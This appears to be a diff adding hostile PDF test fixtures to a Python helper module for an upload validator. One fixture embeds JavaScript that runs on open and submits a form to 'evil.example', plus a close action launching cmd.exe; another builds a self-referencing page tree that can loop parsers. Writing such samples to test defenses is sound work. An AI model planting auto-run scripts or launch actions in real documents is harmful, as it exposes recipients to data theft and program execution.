@@ -75,3 +75,27 @@ def scorm_with(launch: str = "index.html", manifest: bytes | None = None, filler
         if filler:
             archive.writestr("filler.txt", filler)
     return out.getvalue()
+
+
+def scripted_pdf() -> bytes:
+    """A PDF that runs a script when it is opened, and sends a form when it is closed."""
+    return _pdf(
+        [
+            b"<</Type/Catalog/Pages 2 0 R/OpenAction 4 0 R/AA<</WC 5 0 R>>>>",
+            b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
+            _page(),
+            b"<</S/JavaScript/JS(app.alert\\(1\\); this.submitForm\\('https://evil.example'\\))>>",
+            b"<</S/Launch/F(cmd.exe)>>",
+        ]
+    )
+
+
+def cyclic_pdf() -> bytes:
+    """A PDF whose tree of pages is its own branch."""
+    return _pdf(
+        [
+            b"<</Type/Catalog/Pages 2 0 R>>",
+            b"<</Type/Pages/Kids[2 0 R 3 0 R]/Count 2>>",
+            b"<</Type/Pages/Kids[2 0 R 3 0 R]/Parent 2 0 R/Count 2>>",
+        ]
+    )
